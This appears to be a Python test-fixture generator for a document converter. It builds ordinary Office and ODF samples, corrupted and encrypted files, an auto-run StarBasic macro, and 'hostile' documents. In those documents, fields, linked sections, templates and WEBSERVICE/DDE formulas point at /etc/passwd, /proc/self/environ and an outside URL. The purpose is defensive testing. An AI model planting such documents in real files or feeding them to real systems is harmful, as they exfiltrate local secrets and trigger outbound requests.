"""Writes office documents into a folder, made by programs other than the one that converts them.

documents.py ordinary FOLDER               what offices send, with the word "Kaufvertrag" and the number 1234,5
documents.py hostile FOLDER CANARY URL     what reads the file CANARY, other local files and the address URL
"""

import os
import subprocess
import sys
import zipfile

import docx
import msoffcrypto.format.ooxml
import openpyxl
import openpyxl.comments
import pptx
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn
from pptx.util import Inches

WORD = "Kaufvertrag"
ODF = " ".join(
    f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for prefix, name in [
        ("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"), ("script", "script"),
        ("style", "style"), ("svg", "svg-compatible"), ("fo", "xsl-fo-compatible"), ("manifest", "manifest"),
    ]
) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" xmlns:dom="http://www.w3.org/2001/xml-events"'


def ordinary():
    text = docx.Document()
    text.add_heading(WORD)
    text.add_paragraph("Straße, Größe, §§ 433 ff. BGB: 1234,5").add_run(" Calibri").font.name = "Calibri"
    text.save("text.docx")
    noted = text.add_paragraph("mit Anmerkung")
    text.add_comment(noted.runs, text="Bitte prüfen", author="RA", initials="RA")
    text.save("comment.docx")

    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"] = WORD, 1234.5
    book.save("sheet.xlsx")

    slides = pptx.Presentation()
    slide = slides.slides.add_slide(slides.slide_layouts[1])
    slide.shapes.title.text, slide.placeholders[1].text = WORD, "1234,5"
    slides.save("slides.pptx")
    with open("film.mp4", "wb") as film:
        film.write(b"\0\0\0\x18ftypmp42" + bytes(3000))
    slide.shapes.add_movie("film.mp4", Inches(1), Inches(2), Inches(3), Inches(2), mime_type="video/mp4")
    slides.save("film.pptx")

    for source, targets in {
        "text.docx": ["doc", "odt", "rtf", "fodt"],
        "sheet.xlsx": ["xls", "ods"],
        "slides.pptx": ["ppt", "odp"],
    }.items():
        for target in targets:
            subprocess.run(
                # It leaves files in /tmp, where other tests look for their own traces.
                ["bwrap", "--dev-bind", "/", "/", "--tmpfs", "/tmp", "--bind", os.getcwd(), os.getcwd(), "soffice",
                 "--headless", "-env:UserInstallation=file:///tmp/profile", "--convert-to", target, source],
                check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os.rename("text.rtf", "rich.doc")  # As Word writes it on request.

    with open("text.docx", "rb") as plain, open("password.docx", "wb") as sealed:
        msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("geheim", sealed)
    sealed_odt()
    whole = open("text.docx", "rb").read()
    open("half.docx", "wb").write(whole[: len(whole) // 2])
    open("noise.docx", "wb").write(os.urandom(200_000))
    open("noise.xlsx", "wb").write(b"PK\x03\x04" + os.urandom(200_000))
    open("empty.docx", "wb").close()
    open("letter.txt.docx", "w").write("Only text with another name.")
    with_macro()


def odt(name, content, manifest="", **members):
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        is_sealed = isinstance(content, bytes)
        archive.writestr("content.xml", content, zipfile.ZIP_STORED if is_sealed else zipfile.ZIP_DEFLATED)
        for member, text in members.items():
            archive.writestr(member, text)
        entries = "".join(
            f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="text/xml"/>'
            for path in [*members] + ([] if is_sealed else ["content.xml"])
        )
        archive.writestr("META-INF/manifest.xml", f"""<manifest:manifest {ODF} manifest:version="1.2">
            <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>
            {entries}{manifest}</manifest:manifest>""")


def sealed_odt():
    half = "YTYyZTNmZTM0YTFiZjcyYw=="
    odt("password.odt", os.urandom(3000), f"""
        <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="9000">
        <manifest:encryption-data manifest:checksum="{half}"
          manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k">
        <manifest:algorithm manifest:initialisation-vector="{half}"
          manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>
        <manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32"
          manifest:iteration-count="100000" manifest:salt="{half}"/>
        <manifest:start-key-generation manifest:key-size="32"
          manifest:start-key-generation-name="http://www.w3.org/2000/09/xmldsig#sha256"/>
        </manifest:encryption-data></manifest:file-entry>""")


def with_macro():
    """Changes its own text and leaves a file when it is opened."""
    library = 'xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"'
    module = """Sub Main
        ThisComponent.Text.String = "MacroHasRun"
        Open "/tmp/tresor-macro-has-run" For Output As #1
        Print #1, "MacroHasRun"
        Close #1
    End Sub"""
    members = {
        "Basic/script-lc.xml": f'<library:libraries {library}><library:library library:name="Standard" library:link="false"/></library:libraries>',
        "Basic/Standard/script-lb.xml": f'<library:library {library} library:name="Standard"><library:element library:name="Module1"/></library:library>',
        "Basic/Standard/Module1.xml": '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
        f'script:language="StarBasic">{module.replace(chr(34), "&quot;")}</script:module>',
    }
    events = "".join(
        f"""<script:event-listener script:language="ooo:script" script:event-name="{name}" xlink:type="simple"
            xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>"""
        for name in ["dom:load", "office:load-finished", "office:view-created", "office:copyto", "office:prepare-unload"]
    )
    events = f"<office:scripts><office:event-listeners>{events}</office:event-listeners></office:scripts>"
    odt("macro.odt", body(f"<text:p>{WORD}</text:p>", events), **members)


def body(content, before="", kind="content"):
    extra = ' office:mimetype="application/vnd.oasis.opendocument.text"' if kind == "" else ""
    tag = "office:document" + (f"-{kind}" if kind else "")
    return f"""<?xml version="1.0" encoding="UTF-8"?><{tag} {ODF} office:version="1.2"{extra}>{before}
        <office:body><office:text>{content}</office:text></office:body></{tag}>"""


def hostile(canary, url):
    local = [canary, "/proc/self/environ", "/proc/1/environ", "/etc/passwd", "/etc/hostname"]
    places = [f"file://{path}" for path in local] + [url]
    sections = "".join(
        f"""<text:section text:name="s{at}"><text:section-source xlink:href="{place}"
              text:filter-name="Text (encoded)"/><text:p>{WORD}</text:p></text:section>
            <text:p><draw:frame draw:name="i{at}" text:anchor-type="as-char" svg:width="3cm" svg:height="3cm"><draw:image
              xlink:href="{place}.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
            <text:p><draw:frame text:anchor-type="as-char" svg:width="3cm" svg:height="3cm"><draw:floating-frame
              xlink:href="{place}" xlink:actuate="onLoad"/></draw:frame></text:p>"""
        for at, place in enumerate(places)
    )
    odt("sections.odt", body(sections))
    open("sections.fodt", "w").write(body(sections, kind=""))

    text = docx.Document()
    text.add_paragraph(WORD)
    for place in places:
        with_link(text, place + ".png")
        with_template(text, place)
        field(text, f'INCLUDETEXT "{place}"')
        field(text, f'INCLUDEPICTURE "{place}.png" \\d')
    text.save("links.docx")

    fields = "".join(
        "{\\par\\field{\\*\\fldinst {%s \\\\d}}{\\fldrslt {%s}}}" % (f'{kind} "{place}{end}"', WORD)
        for place in places for kind, end in [("INCLUDEPICTURE", ".png"), ("INCLUDETEXT", "")]
    )
    open("fields.rtf", "w").write("{\\rtf1\\ansi %s %s}" % (WORD, fields))

    book = openpyxl.Workbook()
    book.active["A1"] = WORD
    for row, place in enumerate(places, 2):
        book.active.cell(row, 1, f'=_xlfn.WEBSERVICE("{place}")')
        book.active.cell(row, 2, f"='{place}'#$Sheet1.A1")
        book.active.cell(row, 3, f'=DDE("soffice";"{place}";"A1")')
        book.active.cell(row, 4, f'=HYPERLINK("{place}")')
    book.save("formulas.xlsx")
    rows = "".join(
        f"""<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;{place}&quot;)"/>
            <table:table-cell table:formula="of:='{place}'#$Sheet1.A1"/></table:table-row>"""
        for place in places
    )
    tables = "".join(
        f"""<table:table table:name="T{at}"><table:table-source xlink:href="{place}" table:filter-name="Text - txt - csv (StarCalc)"
              table:filter-options="9,34,76,1"/><table:table-row><table:table-cell/></table:table-row></table:table>"""
        for at, place in enumerate(places)
    )
    open("formulas.fods", "w").write(f"""<?xml version="1.0" encoding="UTF-8"?><office:document {ODF} office:version="1.2"
        office:mimetype="application/vnd.oasis.opendocument.spreadsheet"><office:body><office:spreadsheet>
        <table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>{WORD}</text:p>
        </table:table-cell></table:table-row>{rows}</table:table>{tables}</office:spreadsheet></office:body></office:document>""")


def with_link(text, place):
    """A picture that is linked and not embedded: r:link, as Word writes it."""
    text.add_picture(DOT)
    blip = text.element.body.findall(".//" + qn("a:blip"))[-1]
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), text.part.relate_to(place, RELATIONSHIP_TYPE.IMAGE, is_external=True))


def with_template(text, place):
    part = text.part._settings_part
    relation = part.relate_to(place, RELATIONSHIP_TYPE.IMAGE.replace("image", "attachedTemplate"), is_external=True)
    part.element.insert(0, part.element.makeelement(qn("w:attachedTemplate"), {qn("r:id"): relation}))


def field(text, instruction):
    run = text.add_paragraph().add_run()
    for kind in ["begin", "separate", "end"]:
        char = run._r.makeelement(qn("w:fldChar"), {qn("w:fldCharType"): kind, qn("w:dirty"): "true"})
        run._r.append(char)
        if kind == "begin":
            code = run._r.makeelement(qn("w:instrText"), {})
            code.text = instruction
            run._r.append(code)


DOT = "dot.png"

os.chdir(sys.argv[2])
if sys.argv[1] == "ordinary":
    ordinary()
else:
    import PIL.Image

    PIL.Image.new("RGB", (8, 8), (1, 2, 3)).save(DOT)
    PIL.Image.new("RGB", (64, 64), (201, 87, 33)).save(sys.argv[3] + ".png")
    hostile(sys.argv[3], sys.argv[4])
